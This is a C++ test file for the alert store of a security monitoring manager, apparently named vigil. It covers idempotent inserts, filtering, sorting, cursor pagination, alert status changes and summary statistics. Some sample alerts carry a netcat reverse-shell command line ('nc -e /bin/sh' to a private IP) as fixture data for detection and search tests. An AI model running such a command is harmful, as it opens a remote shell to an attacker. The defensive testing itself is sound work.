// The store suite's alert tests (store_test.cpp instantiates the suite on both backends):
// idempotent insert, every filter, both sorts, cursors while alerts arrive, the status workflow,
// the dashboard counts.
#include <algorithm>
#include <functional>
#include <set>

#include "server/manager/store/test/store_fixture.h"

namespace vigil::manager::testing {
namespace {

constexpr int64_t kMinute = 60 * 1000;
constexpr int64_t kHour = 60 * kMinute;
constexpr int64_t kDay = 24 * kHour;

// ---- alerts ----------------------------------------------------------------------------------

TEST_P(StoreTest, AlertInsertIsIdempotent) {
    std::vector<Alert> batch;
    for (int i = 0; i < 10; ++i) batch.push_back(makeAlert(i, i % 3, i % 2, Severity::kHigh, kT0));
    batch.push_back(makeAlert(0, 0, 0, Severity::kHigh, kT0));  // repeated inside the batch
    auto first = store_->insertAlerts(batch);
    ASSERT_TRUE(first.ok()) << first.message();
    EXPECT_EQ(first->alerts_inserted, 10u);
    EXPECT_EQ(first->alerts_duplicate, 1u);

    // The hub delivers again after a crash, plus two new ones.
    batch.push_back(makeAlert(10, 1, 1, Severity::kHigh, kT0));
    batch.push_back(makeAlert(11, 1, 1, Severity::kHigh, kT0));
    auto second = store_->insertAlerts(batch);
    ASSERT_TRUE(second.ok()) << second.message();
    EXPECT_EQ(second->alerts_inserted, 2u);
    EXPECT_EQ(second->alerts_duplicate, 11u);

    EXPECT_EQ(listAllAlerts(*store_, {}).size(), 12u);
    // The summary counters count each alert once.
    auto counts = store_->alertStatusCounts();
    ASSERT_TRUE(counts.ok()) << counts.message();
    EXPECT_EQ((*counts)[0][static_cast<int>(Severity::kHigh)], 12);
    auto stats = store_->alertStats({kT0 - kDay, kT0 + kHour});
    ASSERT_TRUE(stats.ok()) << stats.message();
    EXPECT_EQ(stats->by_severity[static_cast<int>(Severity::kHigh)], 12);
}

TEST_P(StoreTest, AlertRoundTripsEveryField) {
    Alert a = makeAlert(7, 3, 4, Severity::kCritical, kT0 + 1234);
    a.json = R"({"alert_id":"alert-7","fields":{"argv":"nc -e /bin/sh 10.0.0.1 4444"},"x":"é"})";
    ASSERT_TRUE(store_->insertAlerts({a}).ok());
    auto got = store_->getAlert("alert-7");
    ASSERT_TRUE(got.ok()) << got.message();
    ASSERT_TRUE(got->has_value());
    const Alert& b = **got;
    EXPECT_GT(b.seq, 0);
    EXPECT_EQ(b.rule_id, "rule-3");
    EXPECT_EQ(b.rule_name, "Rule 3");
    EXPECT_EQ(b.severity, Severity::kCritical);
    EXPECT_EQ(b.mitre, (std::vector<std::string>{"T1059.004", "T1071"}));
    EXPECT_EQ(b.agent_id, "agent-4");
    EXPECT_EQ(b.hostname, "host-4");
    EXPECT_EQ(b.data_type, 59);
    EXPECT_EQ(b.argv, "bash -c run-7");
    EXPECT_EQ(b.time_ms, kT0 + 1234);
    EXPECT_EQ(b.hub_time_ms, kT0 + 1239);
    EXPECT_EQ(b.status, AlertStatus::kNew);
    EXPECT_EQ(b.json, a.json);
    auto missing = store_->getAlert("alert-none");
    ASSERT_TRUE(missing.ok());
    EXPECT_FALSE(missing->has_value());
    // Lists leave the JSON out unless asked.
    AlertQuery q;
    auto page = store_->listAlerts(q);
    ASSERT_TRUE(page.ok());
    ASSERT_EQ(page->items.size(), 1u);
    EXPECT_EQ(page->items[0].json, "");
    q.with_json = true;
    EXPECT_EQ(must(store_->listAlerts(q)).items[0].json, a.json);
}

// A varied data set: rules 0-6, hosts 0-10, severities and statuses mixed, many equal times.
class AlertData {
public:
    explicit AlertData(Store& store) {
        for (int i = 0; i < 240; ++i) {
            Alert a = makeAlert(i, i % 7, i % 11, static_cast<Severity>(i * 3 % 5),
                                kT0 - (i * 37 % 97) * kMinute);
            if (i % 40 == 5) a.argv = "sh -c 'NC -e /bin/sh 10.1.1.1 4444'";
            if (i == 17) a.rule_name = "CPU at 100% for long";
            if (i == 18) a.argv = "python3 a_b.py";
            alerts.push_back(a);
        }
        for (size_t at = 0; at < alerts.size(); at += 50) {  // batches, in index (= seq) order
            std::vector<Alert> batch(
                alerts.begin() + static_cast<ptrdiff_t>(at),
                alerts.begin() + static_cast<ptrdiff_t>(std::min(at + 50, alerts.size())));
            auto r = store.insertAlerts(batch);
            EXPECT_TRUE(r.ok()) << r.message();
        }
        for (size_t i = 0; i < alerts.size(); i += 3) {
            const auto status = static_cast<AlertStatus>(i / 3 % 4);
            if (status == AlertStatus::kNew) continue;
            auto r = store.updateAlertStatus({alerts[i].alert_id, status, "checked", "alice", kT0});
            EXPECT_TRUE(r.ok() && *r);
            alerts[i].status = status;
        }
    }

    // The ids of the alerts `keep` accepts, in the order of `sort`.
    std::vector<std::string> expected(const std::function<bool(const Alert&)>& keep,
                                      AlertSort sort = AlertSort::kTimeDesc) const {
        std::vector<size_t> idx;
        for (size_t i = 0; i < alerts.size(); ++i) {
            if (keep(alerts[i])) idx.push_back(i);
        }
        std::sort(idx.begin(), idx.end(), [&](size_t a, size_t b) {
            const Alert &x = alerts[a], &y = alerts[b];
            if (sort == AlertSort::kSeverityDesc && x.severity != y.severity) {
                return x.severity > y.severity;
            }
            if (x.time_ms != y.time_ms) return x.time_ms > y.time_ms;
            return a > b;  // later insert first
        });
        std::vector<std::string> ids;
        for (size_t i : idx) ids.push_back(alerts[i].alert_id);
        return ids;
    }

    std::vector<Alert> alerts;
};

TEST_P(StoreTest, AlertListAppliesEveryFilter) {
    AlertData data(*store_);
    auto all = [](const Alert&) { return true; };
    EXPECT_EQ(listAllAlerts(*store_, {}), data.expected(all));

    AlertQuery q;
    q.severities = {Severity::kCritical, Severity::kHigh};
    EXPECT_EQ(listAllAlerts(*store_, q), data.expected([](const Alert& a) {
        return a.severity == Severity::kCritical || a.severity == Severity::kHigh;
    }));

    q = {};
    q.statuses = {AlertStatus::kNew, AlertStatus::kConfirmed};
    EXPECT_EQ(listAllAlerts(*store_, q), data.expected([](const Alert& a) {
        return a.status == AlertStatus::kNew || a.status == AlertStatus::kConfirmed;
    }));

    q = {};
    q.rule_id = "rule-3";
    EXPECT_EQ(listAllAlerts(*store_, q),
              data.expected([](const Alert& a) { return a.rule_id == "rule-3"; }));

    q = {};
    q.agent_id = "agent-5";
    EXPECT_EQ(listAllAlerts(*store_, q),
              data.expected([](const Alert& a) { return a.agent_id == "agent-5"; }));

    q = {};
    q.from_ms = kT0 - 40 * kMinute;
    q.to_ms = kT0 - 10 * kMinute;
    const auto in_range = data.expected(
        [&](const Alert& a) { return a.time_ms >= q.from_ms && a.time_ms < q.to_ms; });
    EXPECT_FALSE(in_range.empty());
    EXPECT_EQ(listAllAlerts(*store_, q), in_range);

    // Free text: any of rule_name, hostname, argv; ASCII case ignored; % and _ are literal.
    q = {};
    q.text = "nc -E";
    auto nc = listAllAlerts(*store_, q);
    EXPECT_EQ(nc.size(), 6u);
    EXPECT_EQ(nc, data.expected(
                      [](const Alert& a) { return a.argv.find("NC -e") != std::string::npos; }));
    q.text = "0%";
    EXPECT_EQ(listAllAlerts(*store_, q), std::vector<std::string>{"alert-17"});
    q.text = "_";
    EXPECT_EQ(listAllAlerts(*store_, q), std::vector<std::string>{"alert-18"});
    q.text = "HOST-10";
    EXPECT_EQ(listAllAlerts(*store_, q),
              data.expected([](const Alert& a) { return a.hostname == "host-10"; }));

    // Everything at once.
    q = {};
    q.severities = {Severity::kInfo, Severity::kMedium, Severity::kCritical};
    q.statuses = {AlertStatus::kNew};
    q.agent_id = "agent-2";
    q.from_ms = kT0 - 90 * kMinute;
    q.text = "run-";
    auto combined = data.expected([&](const Alert& a) {
        return a.severity != Severity::kLow && a.severity != Severity::kHigh &&
               a.status == AlertStatus::kNew && a.agent_id == "agent-2" && a.time_ms >= q.from_ms &&
               a.argv.find("run-") != std::string::npos;
    });
    EXPECT_FALSE(combined.empty());
    EXPECT_EQ(listAllAlerts(*store_, q, 2), combined);

    q = {};
    q.rule_id = "rule-none";
    EXPECT_TRUE(listAllAlerts(*store_, q).empty());
}

TEST_P(StoreTest, AlertListSortsBySeverity) {
    AlertData data(*store_);
    AlertQuery q;
    q.sort = AlertSort::kSeverityDesc;
    auto all = [](const Alert&) { return true; };
    EXPECT_EQ(listAllAlerts(*store_, q, 9), data.expected(all, AlertSort::kSeverityDesc));
    EXPECT_EQ(listAllAlerts(*store_, q, 1000), data.expected(all, AlertSort::kSeverityDesc));
    q.severities = {Severity::kLow, Severity::kCritical};
    q.rule_id = "rule-2";
    EXPECT_EQ(listAllAlerts(*store_, q, 4),
              data.expected(
                  [](const Alert& a) {
                      return (a.severity == Severity::kLow || a.severity == Severity::kCritical) &&
                             a.rule_id == "rule-2";
                  },
                  AlertSort::kSeverityDesc));
}

// Pages are followed while the bus consumer keeps inserting: newer alerts, alerts at the
// cursor's own time, late (older) alerts. Every alert present at the first page shows up once,
// and nothing shows up twice.
TEST_P(StoreTest, CursorsNeitherRepeatNorSkipWhileAlertsArrive) {
    for (AlertSort sort : {AlertSort::kTimeDesc, AlertSort::kSeverityDesc}) {
        SCOPED_TRACE(sort == AlertSort::kTimeDesc ? "time" : "severity");
        const int base = sort == AlertSort::kTimeDesc ? 0 : 100000;
        std::vector<Alert> initial;
        for (int i = 0; i < 60; ++i) {
            initial.push_back(makeAlert(base + i, i % 4, i % 5, static_cast<Severity>(i % 5),
                                        kT0 - (i % 13) * kMinute));
        }
        ASSERT_TRUE(store_->insertAlerts(initial).ok());
        AlertQuery q;
        q.sort = sort;
        q.limit = 8;
        std::vector<std::string> seen;
        int next = base + 1000;
        for (int pages = 0; pages < 100; ++pages) {
            auto page = store_->listAlerts(q);
            ASSERT_TRUE(page.ok()) << page.message();
            for (const auto& a : page->items) seen.push_back(a.alert_id);
            if (page->next_cursor.empty()) break;
            const Alert& last = page->items.back();
            std::vector<Alert> arriving = {
                makeAlert(next++, 9, 9, Severity::kCritical, kT0 + (pages + 1) * kMinute),
                makeAlert(next++, 9, 9, last.severity, last.time_ms),
                makeAlert(next++, 9, 9, Severity::kInfo, kT0 - (20 + pages) * kMinute),
            };
            ASSERT_TRUE(store_->insertAlerts(arriving).ok());
            q.cursor = page->next_cursor;
        }
        const std::set<std::string> unique(seen.begin(), seen.end());
        EXPECT_EQ(unique.size(), seen.size()) << "an alert was listed twice";
        for (const auto& a : initial) EXPECT_TRUE(unique.count(a.alert_id)) << a.alert_id;
    }
}

TEST_P(StoreTest, ForeignOrDamagedCursorsAreRefused) {
    for (int i = 0; i < 5; ++i) {
        ASSERT_TRUE(store_->insertAlerts({makeAlert(i, 1, 1, Severity::kHigh, kT0 + i)}).ok());
    }
    AlertQuery q;
    q.limit = 2;
    auto page = store_->listAlerts(q);
    ASSERT_TRUE(page.ok());
    ASSERT_FALSE(page->next_cursor.empty());
    q.sort = AlertSort::kSeverityDesc;
    q.cursor = page->next_cursor;
    EXPECT_FALSE(store_->listAlerts(q).ok());  // a time-sorted cursor
    q.cursor = "zz";
    EXPECT_FALSE(store_->listAlerts(q).ok());
    HostQuery hq;
    hq.cursor = page->next_cursor;
    EXPECT_FALSE(store_->listHosts(hq).ok());
}

TEST_P(StoreTest, AlertStatusWorkflow) {
    ASSERT_TRUE(store_
                    ->insertAlerts({makeAlert(1, 1, 1, Severity::kHigh, kT0),
                                    makeAlert(2, 1, 1, Severity::kCritical, kT0)})
                    .ok());
    setNow(kT0 + 5000);
    auto r = store_->updateAlertStatus({"alert-1", AlertStatus::kConfirmed, "real", "alice", 0});
    ASSERT_TRUE(r.ok()) << r.message();
    EXPECT_TRUE(*r);
    auto a = must(store_->getAlert("alert-1"));
    EXPECT_EQ(a->status, AlertStatus::kConfirmed);
    EXPECT_EQ(a->status_comment, "real");
    EXPECT_EQ(a->updated_by, "alice");
    EXPECT_EQ(a->updated_at_ms, kT0 + 5000);

    ASSERT_TRUE(must(store_->updateAlertStatus(
        {"alert-1", AlertStatus::kResolved, "host reimaged", "bob", kT0 + 9000})));
    ASSERT_TRUE(must(store_->updateAlertStatus(
        {"alert-2", AlertStatus::kFalsePositive, "admin's script", "bob", kT0 + 9000})));
    ASSERT_TRUE(must(store_->updateAlertStatus(
        {"alert-2", AlertStatus::kFalsePositive, "still", "carol", kT0 + 9500})));
    auto missing = store_->updateAlertStatus({"alert-9", AlertStatus::kResolved, "", "bob", 0});
    ASSERT_TRUE(missing.ok());
    EXPECT_FALSE(*missing);

    a = must(store_->getAlert("alert-1"));
    EXPECT_EQ(a->status, AlertStatus::kResolved);
    EXPECT_EQ(a->updated_by, "bob");
    EXPECT_EQ((must(store_->getAlert("alert-2")))->status_comment, "still");

    AlertQuery q;
    q.statuses = {AlertStatus::kResolved};
    EXPECT_EQ(listAllAlerts(*store_, q), std::vector<std::string>{"alert-1"});
    auto counts = must(store_->alertStatusCounts());
    const int high = static_cast<int>(Severity::kHigh),
              critical = static_cast<int>(Severity::kCritical);
    EXPECT_EQ(counts[static_cast<int>(AlertStatus::kNew)][high], 0);
    EXPECT_EQ(counts[static_cast<int>(AlertStatus::kConfirmed)][high], 0);
    EXPECT_EQ(counts[static_cast<int>(AlertStatus::kResolved)][high], 1);
    EXPECT_EQ(counts[static_cast<int>(AlertStatus::kFalsePositive)][critical], 1);
    EXPECT_EQ(counts[static_cast<int>(AlertStatus::kNew)][critical], 0);
}

TEST_P(StoreTest, AlertStatsFromTheSummaryTables) {
    const int64_t day0 = kT0 - kT0 % kDay;
    std::vector<Alert> alerts;
    int i = 0;
    for (int k = 0; k < 3; ++k)
        alerts.push_back(makeAlert(i++, 1, 1, Severity::kHigh, day0 + kHour + 10 * kMinute));
    for (int k = 0; k < 2; ++k)
        alerts.push_back(makeAlert(i++, 2, 2, Severity::kCritical, day0 + 3 * kHour));
    alerts.push_back(makeAlert(i++, 1, 2, Severity::kLow, day0 - kDay + 5 * kHour));
    alerts.push_back(makeAlert(i++, 3, 3, Severity::kInfo, day0 + 30 * kHour));
    ASSERT_TRUE(store_->insertAlerts(alerts).ok());
    ASSERT_TRUE(store_->insertAlerts(alerts).ok());  // a redelivery counts nothing

    auto s = store_->alertStats({day0 + kHour + 5 * kMinute, day0 + 4 * kHour, kHour, 10});
    ASSERT_TRUE(s.ok()) << s.message();
    EXPECT_EQ(s->from_ms, day0 + kHour);
    EXPECT_EQ(s->to_ms, day0 + 4 * kHour);
    ASSERT_EQ(s->buckets.size(), 3u);
    EXPECT_EQ(s->buckets[0].start_ms, day0 + kHour);
    EXPECT_EQ(s->buckets[0].counts[static_cast<int>(Severity::kHigh)], 3);
    EXPECT_EQ(s->buckets[1].counts, SeverityCounts{});
    EXPECT_EQ(s->buckets[2].counts[static_cast<int>(Severity::kCritical)], 2);
    EXPECT_EQ(s->by_severity, (SeverityCounts{0, 0, 0, 3, 2}));
    EXPECT_EQ(s->top_from_ms, day0);
    EXPECT_EQ(s->top_to_ms, day0 + kDay);
    ASSERT_EQ(s->top_rules.size(), 2u);
    EXPECT_EQ(s->top_rules[0].key, "rule-1");
    EXPECT_EQ(s->top_rules[0].label, "Rule 1");
    EXPECT_EQ(s->top_rules[0].count, 3);
    EXPECT_EQ(s->top_rules[1].key, "rule-2");
    EXPECT_EQ(s->top_rules[1].count, 2);
    ASSERT_EQ(s->top_hosts.size(), 2u);
    EXPECT_EQ(s->top_hosts[0].key, "agent-1");
    EXPECT_EQ(s->top_hosts[0].label, "host-1");
    EXPECT_EQ(s->top_hosts[1].key, "agent-2");

    s = store_->alertStats({day0, day0 + 4 * kHour, 2 * kHour, 10});
    ASSERT_TRUE(s.ok()) << s.message();
    ASSERT_EQ(s->buckets.size(), 2u);
    EXPECT_EQ(s->buckets[0].counts[static_cast<int>(Severity::kHigh)], 3);
    EXPECT_EQ(s->buckets[1].counts[static_cast<int>(Severity::kCritical)], 2);

    s = store_->alertStats({day0 - kDay, day0 + 2 * kDay, 6 * kHour, 2});
    ASSERT_TRUE(s.ok()) << s.message();
    EXPECT_EQ(s->buckets.size(), 12u);
    EXPECT_EQ(s->by_severity, (SeverityCounts{1, 1, 0, 3, 2}));
    ASSERT_EQ(s->top_rules.size(), 2u);
    EXPECT_EQ(s->top_rules[0].key, "rule-1");
    EXPECT_EQ(s->top_rules[0].count, 4);
    EXPECT_EQ(s->top_hosts[0].key, "agent-1");
    EXPECT_EQ(s->top_hosts[1].key, "agent-2");
    EXPECT_EQ(s->top_hosts[1].count, 3);

    EXPECT_FALSE(store_->alertStats({day0, day0 + kDay, 90 * kMinute, 10}).ok());
    EXPECT_FALSE(store_->alertStats({0, day0, kHour, 10}).ok());  // 470,000 buckets
}

}  // namespace
}  // namespace vigil::manager::testing
